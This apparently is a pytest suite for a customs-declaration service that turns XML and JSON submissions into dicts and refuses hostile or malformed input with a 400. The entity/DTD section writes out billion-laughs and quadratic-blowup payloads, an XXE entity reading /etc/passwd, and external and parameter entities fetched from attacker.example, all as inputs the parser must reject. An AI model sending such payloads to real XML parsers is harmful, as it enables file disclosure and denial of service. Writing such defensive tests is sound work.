"""Declaration bodies to dicts: hostile XML is refused with a 400, structure kept for pydantic."""

from __future__ import annotations

from http import HTTPStatus

import pytest

from service.core.errors import DomainError
from service.submissions.parsing import (
    MAX_XML_DEPTH,
    MAX_XML_ELEMENTS,
    MalformedDeclaration,
    parse_json_declaration,
    parse_xml_declaration,
)

DECLARANT = (
    b"<declarant><name>Acme GmbH</name><eori>DE123456789</eori><country>DE</country></declarant>"
)
ITEM = (
    b"<item><description>Laptop</description><quantity>2</quantity><unit_value>10.50</unit_value>"
    b"<currency>EUR</currency><origin_country>CN</origin_country><hs_code>847130</hs_code></item>"
)
EXAMPLE = b"""<declaration>
  <reference>ABC-1</reference>
  <declarant><name>Acme GmbH</name><eori>DE123456789</eori><country>DE</country></declarant>
  <items>
    <item><description>Laptop</description><quantity>2</quantity><unit_value>10.50</unit_value>
          <currency>EUR</currency><origin_country>CN</origin_country><hs_code>847130</hs_code></item>
  </items>
</declaration>
"""
EXPECTED_ITEM = {
    "description": "Laptop",
    "quantity": "2",
    "unit_value": "10.50",
    "currency": "EUR",
    "origin_country": "CN",
    "hs_code": "847130",
}
EXPECTED = {
    "reference": "ABC-1",
    "declarant": {"name": "Acme GmbH", "eori": "DE123456789", "country": "DE"},
    "items": [EXPECTED_ITEM],
}


def declaration(inner: bytes) -> bytes:
    return b"<declaration>" + inner + b"</declaration>"


def refused(body: bytes, *, json: bool = False) -> str:
    """The 400 message a body is refused with."""
    parse = parse_json_declaration if json else parse_xml_declaration
    with pytest.raises(MalformedDeclaration) as caught:
        parse(body)
    assert caught.value.status_code == HTTPStatus.BAD_REQUEST
    return caught.value.message


# --- the happy path --------------------------------------------------------------------------


def test_the_example_parses_to_exactly_the_schema_dict() -> None:
    assert parse_xml_declaration(EXAMPLE) == EXPECTED


def test_an_xml_declaration_line_is_allowed() -> None:
    body = b'<?xml version="1.0" encoding="UTF-8"?>\n' + EXAMPLE

    assert parse_xml_declaration(body) == EXPECTED


def test_a_declared_single_byte_encoding_is_decoded() -> None:
    body = b'<?xml version="1.0" encoding="ISO-8859-1"?>' + declaration(
        b"<declarant><name>Soci\xe9t\xe9</name></declarant>"
    )

    assert parse_xml_declaration(body) == {"declarant": {"name": "Soci\u00e9t\u00e9"}}


def test_whitespace_around_text_is_stripped_and_inner_whitespace_kept() -> None:
    body = declaration(
        b"<reference>\n\t  ABC 1  \n</reference><declarant>  <name> A  B </name> </declarant>"
    )

    assert parse_xml_declaration(body) == {"reference": "ABC 1", "declarant": {"name": "A  B"}}


def test_leaf_text_stays_a_string_for_pydantic_to_coerce() -> None:
    body = declaration(
        b"<items><item><quantity>0002</quantity><unit_value>1e3</unit_value></item></items>"
    )

    assert parse_xml_declaration(body) == {"items": [{"quantity": "0002", "unit_value": "1e3"}]}


def test_an_empty_element_is_an_empty_string() -> None:
    assert parse_xml_declaration(declaration(b"<reference/>")) == {"reference": ""}
    assert parse_xml_declaration(declaration(b"<reference>  </reference>")) == {"reference": ""}


def test_an_optional_element_left_out_is_absent() -> None:
    body = declaration(b"<items><item><description>Pen</description></item></items>")

    assert parse_xml_declaration(body) == {"items": [{"description": "Pen"}]}


def test_items_are_a_list_in_document_order() -> None:
    body = declaration(
        b"<items><item><description>A</description></item>"
        b"<item><description>B</description></item></items>"
    )

    assert parse_xml_declaration(body) == {"items": [{"description": "A"}, {"description": "B"}]}


def test_empty_items_are_an_empty_list_for_pydantic_to_judge() -> None:
    assert parse_xml_declaration(declaration(b"<items/>")) == {"items": []}
    assert parse_xml_declaration(declaration(b"<items>\n  </items>")) == {"items": []}


def test_an_empty_declaration_is_an_empty_dict_for_pydantic_to_report() -> None:
    assert parse_xml_declaration(b"<declaration/>") == {}


def test_an_unknown_element_is_kept_for_pydantic_to_reject() -> None:
    body = declaration(b"<declarant><name>A</name><vat>X1</vat></declarant><notes><a>1</a></notes>")

    assert parse_xml_declaration(body) == {
        "declarant": {"name": "A", "vat": "X1"},
        "notes": {"a": "1"},
    }


def test_an_item_with_text_only_is_kept_as_text_for_pydantic_to_reject() -> None:
    assert parse_xml_declaration(declaration(b"<items><item>Laptop</item></items>")) == {
        "items": ["Laptop"]
    }


def test_comments_are_ignored_and_cdata_is_text() -> None:
    body = declaration(b"<!-- why --><reference><![CDATA[A<B&C]]></reference><!-- not -->")

    assert parse_xml_declaration(body) == {"reference": "A<B&C"}


def test_character_references_are_decoded() -> None:
    assert parse_xml_declaration(declaration(b"<reference>A&amp;B&#x41;</reference>")) == {
        "reference": "A&BA"
    }


def test_a_thousand_items_parse() -> None:
    body = declaration(
        b"<reference>R</reference>" + DECLARANT + b"<items>" + ITEM * 1000 + b"</items>"
    )

    parsed = parse_xml_declaration(body)

    assert len(parsed["items"]) == 1000
    assert parsed["items"][999] == EXPECTED_ITEM


# --- entities, DTDs, external references -------------------------------------------------------


def test_billion_laughs_is_refused() -> None:
    lols = b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10))
    body = (
        b'<?xml version="1.0"?><!DOCTYPE declaration [<!ENTITY lol0 "lol">'
        + lols
        + b"]><declaration><reference>&lol9;</reference></declaration>"
    )

    assert "may not contain a DTD" in refused(body)


def test_quadratic_blowup_is_refused() -> None:
    body = (
        b'<!DOCTYPE declaration [<!ENTITY a "'
        + b"x" * 50_000
        + b'">]><declaration><reference>'
        + b"&a;" * 10_000
        + b"</reference></declaration>"
    )

    assert "may not contain a DTD" in refused(body)


def test_an_external_file_entity_is_refused_without_quoting_it() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE declaration [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<declaration><reference>&xxe;</reference></declaration>"
    )

    message = refused(body)

    assert "may not contain a DTD" in message
    assert "passwd" not in message


def test_an_external_http_entity_is_refused_without_quoting_it() -> None:
    body = (
        b'<!DOCTYPE declaration [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>'
        b"<declaration><reference>&xxe;</reference></declaration>"
    )

    message = refused(body)

    assert "may not contain a DTD" in message
    assert "attacker" not in message


def test_an_external_dtd_is_refused() -> None:
    body = b'<!DOCTYPE declaration SYSTEM "http://attacker.example/d.dtd"><declaration/>'

    assert "may not contain a DTD" in refused(body)


def test_a_parameter_entity_is_refused() -> None:
    body = (
        b'<!DOCTYPE declaration [<!ENTITY % remote SYSTEM "http://attacker.example/e.dtd">'
        b"%remote;]><declaration/>"
    )

    assert "may not contain a DTD" in refused(body)


def test_even_a_harmless_internal_dtd_is_refused() -> None:
    body = b"<!DOCTYPE declaration [<!ELEMENT declaration ANY>]><declaration/>"

    assert "may not contain a DTD" in refused(body)


def test_a_bare_doctype_is_refused() -> None:
    assert "may not contain a DTD" in refused(b"<!DOCTYPE declaration><declaration/>")


def test_an_undeclared_entity_reference_is_malformed() -> None:
    message = refused(declaration(b"<reference>&xxe;</reference>"))

    assert message == "malformed XML at line 1, column 24: undefined entity"


# --- malformed XML -----------------------------------------------------------------------------


def test_an_unclosed_tag_is_malformed_with_its_position() -> None:
    message = refused(b"<declaration>\n  <reference>ABC-1\n</declaration>")

    assert message.startswith("malformed XML at line 3, column 2")
    assert "mismatched tag" in message


def test_garbage_bytes_are_malformed() -> None:
    assert "malformed XML at line 1, column 0" in refused(b"\x00\x9f\xffnot xml at all")


def test_an_empty_body_is_malformed() -> None:
    assert "no element found" in refused(b"")


def test_text_after_the_root_element_is_malformed() -> None:
    assert "junk after document element" in refused(b"<declaration/>trailing")


def test_bytes_not_in_the_declared_utf8_are_malformed() -> None:
    body = b'<?xml version="1.0" encoding="UTF-8"?>' + declaration(b"<reference>\xe9</reference>")

    assert "not well-formed (invalid token)" in refused(body)


def test_a_declared_utf16_encoding_over_utf8_bytes_is_malformed() -> None:
    body = b'<?xml version="1.0" encoding="UTF-16"?><declaration/>'

    assert "encoding specified in XML declaration is incorrect" in refused(body)


def test_an_unknown_declared_encoding_is_refused_without_quoting_it() -> None:
    message = refused(b'<?xml version="1.0" encoding="x-secret-enc"?><declaration/>')

    assert "unknown encoding" in message
    assert "secret" not in message


def test_a_multibyte_declared_encoding_is_refused() -> None:
    body = b'<?xml version="1.0" encoding="Shift_JIS"?><declaration/>'

    assert "unsupported multi-byte encoding" in refused(body)


# --- structure the schema cannot express -------------------------------------------------------


def test_a_root_other_than_declaration_is_refused() -> None:
    message = refused(b"<submission><reference>A</reference></submission>")

    assert "root element of an XML declaration must be <declaration>" in message


def test_text_as_the_whole_declaration_is_refused() -> None:
    assert "declaration must contain elements, not text" in refused(b"<declaration>x</declaration>")


def test_attributes_on_the_root_are_refused() -> None:
    assert refused(b'<declaration version="2"/>') == "declaration may not have attributes"


def test_attributes_on_a_nested_element_are_refused_naming_its_path() -> None:
    body = declaration(b'<items><item><quantity unit="kg">2</quantity></item></items>')

    assert refused(body) == "declaration/items/item[1]/quantity may not have attributes"


def test_the_predefined_xml_lang_attribute_is_refused_too() -> None:
    body = declaration(b'<declarant><name xml:lang="de">A</name></declarant>')

    assert refused(body) == "declaration/declarant/name may not have attributes"


def test_a_default_namespace_is_refused() -> None:
    body = b'<declaration xmlns="urn:example:declaration"><reference>A</reference></declaration>'

    assert "may not declare namespaces" in refused(body)


def test_a_prefixed_namespace_is_refused() -> None:
    body = b'<declaration xmlns:x="urn:x"><x:reference>A</x:reference></declaration>'

    assert "may not declare namespaces" in refused(body)


def test_an_undeclared_prefix_is_malformed() -> None:
    assert "unbound prefix" in refused(declaration(b"<x:reference>A</x:reference>"))


def test_an_element_in_the_predefined_xml_namespace_is_refused() -> None:
    body = declaration(b"<xml:reference>A</xml:reference>")

    assert "is in a namespace" in refused(body)


def test_a_processing_instruction_inside_is_refused() -> None:
    body = declaration(b'<?xml-stylesheet href="x.xsl"?><reference>A</reference>')

    assert "may not contain processing instructions" in refused(body)


def test_a_processing_instruction_before_the_root_is_refused() -> None:
    body = b'<?xml version="1.0"?><?php echo 1; ?>' + declaration(b"<reference>A</reference>")

    assert "may not contain processing instructions" in refused(body)


def test_a_repeated_scalar_is_refused_naming_its_path() -> None:
    body = declaration(b"<declarant><name>A</name><name>B</name></declarant>")

    assert refused(body) == "declaration/declarant/name appears twice"


def test_a_repeated_item_field_is_refused_naming_the_item() -> None:
    body = declaration(
        b"<items>" + ITEM + b"<item><currency>EUR</currency><currency>USD</currency></item></items>"
    )

    assert refused(body) == "declaration/items/item[2]/currency appears twice"


def test_a_repeated_items_element_is_refused() -> None:
    body = declaration(b"<items>" + ITEM + b"</items><items>" + ITEM + b"</items>")

    assert refused(body) == "declaration/items appears twice"


def test_text_mixed_with_elements_is_refused() -> None:
    body = declaration(b"<declarant>Acme<name>A</name></declarant>")

    assert refused(body) == "declaration/declarant mixes text with elements"


def test_text_after_a_child_element_is_mixed_content() -> None:
    body = declaration(b"<declarant><name>A</name> GmbH </declarant>")

    assert refused(body) == "declaration/declarant mixes text with elements"


def test_items_with_another_child_are_refused() -> None:
    body = declaration(
        b"<items>" + ITEM + b"<product><description>X</description></product></items>"
    )

    assert refused(body) == "declaration/items may contain only <item> elements"


def test_items_with_text_are_refused() -> None:
    body = declaration(b"<items>Laptop</items>")

    assert refused(body) == "declaration/items may contain only <item> elements, not text"


def test_a_long_element_name_is_shortened_in_the_message() -> None:
    tag = b"n" * 10_000
    body = declaration(b"<%s>A</%s><%s>B</%s>" % (tag, tag, tag, tag))

    message = refused(body)

    assert message.endswith("... appears twice")
    assert len(message) < 200


# --- bounds ------------------------------------------------------------------------------------


def test_exactly_the_maximum_number_of_elements_parses() -> None:
    # The declaration and items elements, and items up to the limit.
    body = declaration(b"<items>" + b"<item/>" * (MAX_XML_ELEMENTS - 2) + b"</items>")

    assert len(parse_xml_declaration(body)["items"]) == MAX_XML_ELEMENTS - 2


def test_one_element_more_than_the_maximum_is_refused() -> None:
    body = declaration(b"<items>" + b"<item/>" * (MAX_XML_ELEMENTS - 1) + b"</items>")

    assert f"may not have more than {MAX_XML_ELEMENTS} elements" in refused(body)


def test_nesting_to_the_maximum_depth_parses() -> None:
    depth = MAX_XML_DEPTH - 1  # below the root
    body = declaration(b"<x>" * depth + b"deep" + b"</x>" * depth)

    value = parse_xml_declaration(body)
    for _ in range(depth - 1):
        value = value["x"]

    assert value == {"x": "deep"}


def test_nesting_deeper_than_the_maximum_is_refused() -> None:
    depth = MAX_XML_DEPTH
    body = declaration(b"<x>" * depth + b"</x>" * depth)

    assert f"may not nest elements more than {MAX_XML_DEPTH} deep" in refused(body)


def test_very_deep_nesting_is_refused_before_it_is_built() -> None:
    body = declaration(b"<x>" * 100_000 + b"</x>" * 100_000)

    assert "may not nest elements" in refused(body)


def test_malformed_declaration_is_a_domain_error_rendered_as_a_400() -> None:
    error = MalformedDeclaration("why")

    assert isinstance(error, DomainError)
    assert (error.status_code, error.message) == (HTTPStatus.BAD_REQUEST, "why")


# --- JSON --------------------------------------------------------------------------------------


def test_a_json_declaration_parses_to_the_same_dict() -> None:
    body = (
        b'{"reference": "ABC-1", "declarant": {"name": "Acme GmbH", "eori": "DE123456789",'
        b' "country": "DE"}, "items": [{"description": "Laptop", "quantity": "2",'
        b' "unit_value": "10.50", "currency": "EUR", "origin_country": "CN",'
        b' "hs_code": "847130"}]}'
    )

    assert parse_json_declaration(body) == EXPECTED


def test_malformed_json_is_refused_with_its_position() -> None:
    message = refused(b'{"reference": "A",\n "items": tru}', json=True)

    assert message.startswith("malformed JSON at line 2, column")


def test_an_empty_json_body_is_malformed() -> None:
    assert refused(b"", json=True).startswith("malformed JSON")


def test_invalid_utf8_json_is_malformed() -> None:
    assert refused(b'{"reference": "\xff"}', json=True).startswith("malformed JSON")


@pytest.mark.parametrize("body", [b"[]", b'"declaration"', b"42", b"null", b"true"])
def test_a_json_value_other_than_an_object_is_refused(body: bytes) -> None:
    assert refused(body, json=True) == "a JSON declaration must be an object"
